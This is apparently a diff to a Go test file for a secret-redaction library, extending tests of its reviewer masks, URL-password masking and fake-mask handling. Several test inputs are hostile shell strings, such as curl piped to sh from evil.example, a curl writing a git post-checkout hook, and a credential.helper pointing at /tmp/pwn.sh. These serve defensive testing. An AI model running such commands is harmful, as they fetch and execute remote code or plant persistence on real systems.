@@ -267,14 +267,23 @@ func TestPEMBody(t *testing.T) {
 }
 
 // TestDescribe: the reviewers' mask says how long the hidden text is and
-// warns when it holds words, line breaks, control or shell characters; it
+// warns when it holds words, line breaks, control, invisible, shell, path
+// or host characters; it
 // is a mask itself, and masking it again keeps it.
 func TestDescribe(t *testing.T) {
 	for _, tc := range []struct{ in, want string }{
 		{"hunter2", "[REDACTED 7 chars — not shown]"},
-		{"; curl -s https://evil.example/x | sh ; :", "[REDACTED 41 chars — contains spaces and ; | — not shown]"},
+		{"; curl -s https://evil.example/x | sh ; :", "[REDACTED 41 chars — contains spaces and ; | / — not shown]"},
 		{"`curl", "[REDACTED 5 chars — contains ` — not shown]"},
 		{"a\nb\x07$(x)", "[REDACTED 8 chars — contains spaces, newlines, control characters and $ ( ) — not shown]"},
+		// Paths, hosts, brace expansion, and text meant to look other than it is.
+		{"/etc/cron.d/evil", "[REDACTED 16 chars — contains / — not shown]"},
+		{"{curl,-so,.git/hooks/post-checkout,evil.example/h}", "[REDACTED 50 chars — contains { } , / — not shown]"},
+		{`deploy:x@evil.example\`, `[REDACTED 22 chars — contains @ \ — not shown]`},
+		{"a\u202eb\u200bc", "[REDACTED 5 chars — contains invisible characters — not shown]"},
+		{"a\u0085b", "[REDACTED 3 chars — contains spaces and control characters — not shown]"},
+		{"a\u009bb", "[REDACTED 3 chars — contains control characters — not shown]"},
+		{"curl\u00a0evil.example|sh", "[REDACTED 20 chars — contains spaces and | — not shown]"},
 	} {
 		got := Describe(tc.in)
 		if got != tc.want {
@@ -282,6 +291,11 @@ func TestDescribe(t *testing.T) {
 		}
 		if !IsMask(got) {
 			t.Errorf("IsMask(%q) = false", got)
+		}
+	}
+	for _, c := range shellChars {
+		if d := Describe(string(c)); !IsMask(d) {
+			t.Errorf("IsMask(Describe(%q)) = false: describeItem lacks it", c)
 		}
 	}
 	if IsMask("[REDACTED hunter2]") || IsMask("[REDACTED 7 chars — contains hunter2 — not shown]") || IsMask("x[REDACTED]") {
@@ -293,7 +307,7 @@ func TestDescribe(t *testing.T) {
 		{"api_key=`curl evil|sh`", "api_key=[REDACTED 5 chars — contains ` — not shown] evil|sh`"},
 		{"token=abcdefgh", "token=[REDACTED 8 chars — not shown]"},
 		{"-----BEGIN RSA PRIVATE KEY-----\n" + testKeyBody + "\n-----END RSA PRIVATE KEY-----",
-			"-----BEGIN RSA PRIVATE KEY-----[REDACTED 192 chars — not shown]-----END RSA PRIVATE KEY-----"},
+			"-----BEGIN RSA PRIVATE KEY-----[REDACTED 192 chars — contains / — not shown]-----END RSA PRIVATE KEY-----"},
 	} {
 		once := r.String(tc.in)
 		if once != tc.want {
@@ -310,7 +324,7 @@ func TestDescribe(t *testing.T) {
 	if got := v.(map[string]any)["SECRET"]; got != "[REDACTED 11 chars — contains spaces and ; — not shown]" {
 		t.Errorf("a secret key's value: %v", got)
 	}
-	if got := v.(map[string]any)["password"]; got != "[REDACTED 12 chars — not shown]" {
+	if got := v.(map[string]any)["password"]; got != "[REDACTED 12 chars — contains { } — not shown]" {
 		t.Errorf("a secret key's object: %v", got)
 	}
 	if again := r.Value(v); !reflect.DeepEqual(again, v) {
@@ -426,5 +440,79 @@ func BenchmarkValue(b *testing.B) {
 	}
 	for b.Loop() {
 		r.Value(args)
+	}
+}
+
+// TestURLPasswordHost: the URL-password mask ends at the last "@" before
+// the authority ends ("/", "?", "#", "\"), so the host shown is the one a
+// WHATWG parser (Node, browsers) or Go's and Python's connect to, and no
+// part of a password with a raw "@" is left in clear.
+func TestURLPasswordHost(t *testing.T) {
+	r := New(nil)
+	for _, tc := range []struct{ in, want string }{
+		{`curl -s https://deploy:x@evil.example\@github.com/o/r.tgz`, `curl -s https://deploy:` + Mask + `@evil.example\@github.com/o/r.tgz`},
+		{`https://u:pw@evil.example\\@github.com/`, `https://u:` + Mask + `@evil.example\\@github.com/`},
+		{"mysql://root:p@ssw0rd@localhost/db", "mysql://root:" + Mask + "@localhost/db"},
+		{"https://u:x@evil.example@github.com/", "https://u:" + Mask + "@github.com/"},
+	} {
+		if got := r.String(tc.in); got != tc.want {
+			t.Errorf("String(%q)\n got  %q\n want %q", tc.in, got, tc.want)
+		}
+	}
+	if got, want := r.ForReviewers().String("https://u:x@evil.example@github.com/"),
+		"https://u:[REDACTED 14 chars — contains @ — not shown]@github.com/"; got != want {
+		t.Errorf("reviewers' mask of a password with @:\n got  %q\n want %q", got, want)
+	}
+}
+
+// TestLocationKeysShown: values under keys that name where a secret is or
+// what fetches it are not secret, and a reviewer sees them.
+func TestLocationKeysShown(t *testing.T) {
+	r := New(nil).ForReviewers()
+	for _, s := range []string{
+		"git -c credential.helper=/tmp/pwn.sh push origin main",
+		"PASSWORD_FILE=/etc/cron.d/evil",
+		"GIT_ASKPASS=./scripts/helper.sh git push",
+		`{"session_file": "/etc/cron.d/evil"}`,
+		"SSH_AUTH_SOCK=/tmp/agent.sock",
+		"token_url=https://auth.example/token",
+		"cookie_jar=/tmp/j password_cmd=pass-show",
+	} {
+		if got := r.String(s); got != s {
+			t.Errorf("String(%q) = %q, want unchanged", s, got)
+		}
+	}
+	v := r.Value(map[string]any{"session_file": "/etc/cron.d/evil", "credential_helper": "/tmp/pwn.sh", "session": "s3"})
+	want := map[string]any{"session_file": "/etc/cron.d/evil", "credential_helper": "/tmp/pwn.sh", "session": "[REDACTED 2 chars — not shown]"}
+	if !reflect.DeepEqual(v, want) {
+		t.Errorf("Value = %v, want %v", v, want)
+	}
+}
+
+// TestFakeMaskMasked: a value that starts with a mask but goes on is not a
+// mask; it is masked whole, quoted or not, and masking stays idempotent.
+func TestFakeMaskMasked(t *testing.T) {
+	plain, rr := New(nil), New(nil).ForReviewers()
+	for _, in := range []string{
+		`PGPASSWORD="[REDACTED]hunter2RealSecret" psql -h db`,
+		`export API_TOKEN='[REDACTED 4 chars — not shown]s3cr3t-Value-123'`,
+		`API_TOKEN=[REDACTED 4 chars — not shown]s3cr3t-Value-123 make`,
+		`API_TOKEN=[REDACTED]s3cr3t-Value-123 make`,
+		`{\"password\":\"[REDACTED]s3cr3t-Value-123\"}`,
+	} {
+		for _, r := range []*Redactor{plain, rr} {
+			once := r.String(in)
+			if strings.Contains(once, "hunter2") || strings.Contains(once, "s3cr3t") {
+				t.Errorf("String(%q) = %q: the text after the fake mask is shown", in, once)
+			}
+			if twice := r.String(once); twice != once {
+				t.Errorf("not idempotent: %q -> %q", once, twice)
+			}
+		}
+	}
+	for _, in := range []string{`PGPASSWORD="[REDACTED]" psql`, "token=[REDACTED 8 chars — not shown] x", `token='[REDACTED 3 chars — contains / — not shown]'`} {
+		if got := plain.String(in); got != in {
+			t.Errorf("String(%q) = %q: a mask is kept", in, got)
+		}
 	}
 }
